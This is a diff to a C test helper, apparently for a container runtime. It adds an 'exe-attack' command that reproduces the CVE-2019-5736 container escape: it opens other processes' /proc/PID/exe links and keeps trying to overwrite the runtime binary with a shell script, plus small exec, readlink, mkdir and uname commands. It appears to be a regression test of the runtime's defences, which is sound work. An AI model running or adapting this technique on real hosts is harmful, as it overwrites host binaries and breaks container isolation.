@@ -216,6 +216,110 @@ forkbomb (int n)
   return 0;
 }
 
+
+/* exe-attack SECONDS: the pattern of CVE-2019-5736.  Open /proc/PID/exe
+   of every other process that shows up (a runtime entering the container
+   is one), and keep trying to reopen what was opened for writing, as the
+   attack does once the runtime has exited.  Prints opened=PID TARGET for
+   each link opened, written=PID when a write went through, and
+   attack=written or attack=failed.  */
+static int
+exe_attack (double seconds)
+{
+  int fds[256];
+  int pids[256];
+  int n = 0, written = 0;
+  pid_t self = getpid ();
+  struct timespec t0, now;
+  clock_gettime (CLOCK_MONOTONIC, &t0);
+  for (;;)
+    {
+      clock_gettime (CLOCK_MONOTONIC, &now);
+      if ((double) (now.tv_sec - t0.tv_sec) + (double) (now.tv_nsec - t0.tv_nsec) / 1e9 > seconds)
+        break;
+      DIR *d = opendir ("/proc");
+      struct dirent *de;
+      while (d && (de = readdir (d)) != NULL && n < 256)
+        {
+          int pid = atoi (de->d_name);
+          int seen = 0;
+          if (pid <= 0 || pid == self)
+            continue;
+          for (int i = 0; i < n; i++)
+            seen |= pids[i] == pid;
+          if (seen)
+            continue;
+          char p[64], t[4096];
+          snprintf (p, sizeof p, "/proc/%d/exe", pid);
+          int fd = open (p, O_PATH | O_CLOEXEC);
+          if (fd < 0)
+            continue;
+          ssize_t l = readlink (p, t, sizeof t - 1);
+          t[l > 0 ? l : 0] = '\0';
+          fds[n] = fd;
+          pids[n++] = pid;
+          printf ("opened=%d %s\n", pid, t);
+          fflush (stdout);
+        }
+      if (d)
+        closedir (d);
+      for (int i = 0; i < n && ! written; i++)
+        {
+          char q[64];
+          snprintf (q, sizeof q, "/proc/self/fd/%d", fds[i]);
+          int w = open (q, O_WRONLY | O_CLOEXEC);
+          if (w < 0)
+            continue;
+          if (write (w, "#!/bin/sh\necho pwned\n", 21) == 21)
+            {
+              printf ("written=%d\n", pids[i]);
+              written = 1;
+            }
+          close (w);
+        }
+      if (written)
+        break;
+      usleep (2000);
+    }
+  printf ("attack=%s\n", written ? "written" : "failed");
+  return 0;
+}
+
+/* exec PATH [ARGS]: run PATH in a child; print exec=STATUS, or
+   exec=error errno=N when execve itself failed.  */
+static int
+exec_child (int argc, char **argv)
+{
+  int pfd[2];
+  if (pipe2 (pfd, O_CLOEXEC) < 0)
+    return 1;
+  fflush (stdout);
+  pid_t pid = fork ();
+  if (pid == 0)
+    {
+      char *args[64];
+      int k = 0;
+      for (int i = 0; i < argc && k < 63; i++)
+        args[k++] = argv[i];
+      args[k] = NULL;
+      execv (argv[0], args);
+      int e = errno;
+      if (write (pfd[1], &e, sizeof e) < 0)
+        _exit (127);
+      _exit (127);
+    }
+  close (pfd[1]);
+  int e = 0, status = 0;
+  ssize_t r = read (pfd[0], &e, sizeof e);
+  close (pfd[0]);
+  waitpid (pid, &status, 0);
+  if (r == (ssize_t) sizeof e)
+    printf ("exec=error errno=%d\n", e);
+  else
+    printf ("exec=%d\n", WIFEXITED (status) ? WEXITSTATUS (status) : 128 + WTERMSIG (status));
+  return 0;
+}
+
 static int
 run1 (int argc, char **argv)
 {
@@ -408,6 +512,37 @@ run1 (int argc, char **argv)
     }
   else if (strcmp (cmd, "oom") == 0)
     return cat_file ("/proc/self/oom_score_adj");
+  else if (strcmp (cmd, "exe-attack") == 0 && argc > 1)
+    return exe_attack (atof (argv[1]));
+  else if (strcmp (cmd, "exec") == 0 && argc > 1)
+    return exec_child (argc - 1, argv + 1);
+  else if (strcmp (cmd, "readlink") == 0 && argc > 1)
+    {
+      char t[4096];
+      ssize_t l = readlink (argv[1], t, sizeof t - 1);
+      if (l < 0)
+        {
+          printf ("readlink=error errno=%d\n", errno);
+          return 1;
+        }
+      t[l] = 0;
+      printf ("link=%s\n", t);
+    }
+  else if (strcmp (cmd, "mkdir") == 0 && argc > 1)
+    {
+      if (mkdir (argv[1], 0755) < 0)
+        {
+          printf ("mkdir=error errno=%d\n", errno);
+          return 1;
+        }
+      printf ("mkdir=ok\n");
+    }
+  else if (strcmp (cmd, "uname") == 0)
+    {
+      struct utsname u;
+      uname (&u);
+      printf ("machine=%s\n", u.machine);
+    }
   else if (strcmp (cmd, "echo") == 0)
     {
       for (int i = 1; i < argc; i++)
